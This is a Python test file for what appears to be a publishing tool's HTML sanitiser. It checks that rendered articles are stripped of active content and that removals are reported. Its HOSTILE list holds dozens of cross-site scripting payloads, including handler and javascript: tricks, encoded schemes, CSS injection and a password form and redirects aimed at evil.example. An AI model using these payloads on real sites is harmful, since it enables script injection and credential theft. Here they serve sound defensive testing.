"""Hostile and odd HTML: none of it reaches an article, and what is taken out is told."""

import re

import pytest
from bs4 import BeautifulSoup

from publisher.render.article import Article
from publisher.render.convert import Source, convert
from publisher.render.html_cleaning import losses, safe_style

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr=alert(1) x>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\nscript:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a data-kb-src="javascript:alert(1)" href="x">x</a>',
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<math><mi xlink:href='javascript:x'>x</mi></math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>x</script>'></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=https://evil.example><input name=password><button formaction=x>Go</button></form>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<div style='position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999'>x</div>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    '<p style="color:red;behavior:url(x)">x</p>',
    "<div class='landing-block-node-text js-x ui-btn'>x</div>",
    "<template><script>x</script></template>",
    "<noscript><p title='</noscript><script>x</script>'>",
    "<!--<img src='--><script>x</script>'>-->",
    "<?php system('x') ?>",
    "<![CDATA[<script>x</script>]]>",
    "<details ontoggle=alert(1) open>x</details>",
    "<video src=x onloadstart=alert(1)></video>",
    "<a href='https://x.example' target=_top rel=opener>x</a>",
    "<p title='\"><script>x</script>'>x</p>",
]
FORBIDDEN_TAGS = "script style iframe object embed form input button base meta link svg math template video".split()


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_html_never_reaches_an_article(html: str) -> None:
    """No active element, handler, unsafe address, covering style or class of the portal is left."""
    converted = convert(html, Source("a.md", html))
    article = Article(converted.segments).resolve(page=lambda _: "#", file=lambda _: "#", image=lambda _: 'src="x"')
    tree = BeautifulSoup(article, "html.parser")

    assert not tree.find_all(FORBIDDEN_TAGS)
    for element in tree.find_all(True):
        assert not [
            name for name in element.attrs if name.startswith("on") or name in {"srcdoc", "formaction", "class"}
        ]
        for name in ("href", "src"):
            address = re.sub(r"\s", "", str(element.get(name, ""))).lower()
            assert not address.startswith(("javascript:", "data:text", "vbscript:"))
        style = str(element.get("style", ""))
        assert not re.search(r"position|z-index|url\(|expression|behavior|100vw", style)
        assert element.get("target") in {None, "_blank"}
        assert element.get("target") is None or element["rel"] == ["noopener"]


@pytest.mark.parametrize(
    ("html", "told"),
    [
        ("<p>Only prose, online = true.</p>", []),
        ('<table><tr><td style="text-align: right;">1</td></tr></table>', []),
        ('<p style="color:red">x</p>', []),
        ("<script>x</script>", ["<script>"]),
        ("<font color=red>x</font><input>", ["<font>"]),
        ('<p data-x="1" aria-label="y" onclick="z" contenteditable>x</p>', ["onclick=", "contenteditable="]),
        ('<a href="tel:1">x</a> <a href="steam://x">y</a>', ["steam:"]),
        ('<a href="javascript:x" data-kb-src="javascript:x">told by the writer</a>', []),
        ('<img src="data:image/png;base64,AA">', []),
        ('<p style="position:fixed; color:red;">x</p>', ["<p style=position>"]),
    ],
)
def test_what_is_taken_out_is_told(html: str, told: list[str]) -> None:
    """Losses name the element, attribute, style or scheme; what only tools leave behind is not missed."""
    assert [detail for _, detail, _ in losses(html)] == told


def test_styles_keep_plain_values_only() -> None:
    """nh3 chooses the properties; values with functions are left out."""
    assert (
        safe_style("color: red; background-color:url(x); width:50% ;; text-align:center")
        == "color: red;width:50%;text-align:center"
    )


def test_long_details_are_cut() -> None:
    """A report shows the beginning of a long address."""
    long = f"javascript:{'x' * 200}"
    converted = convert(f'<a data-kb-src="{long}">x</a>', Source("a.md", ""))

    assert len(converted.losses[0].detail) == 80
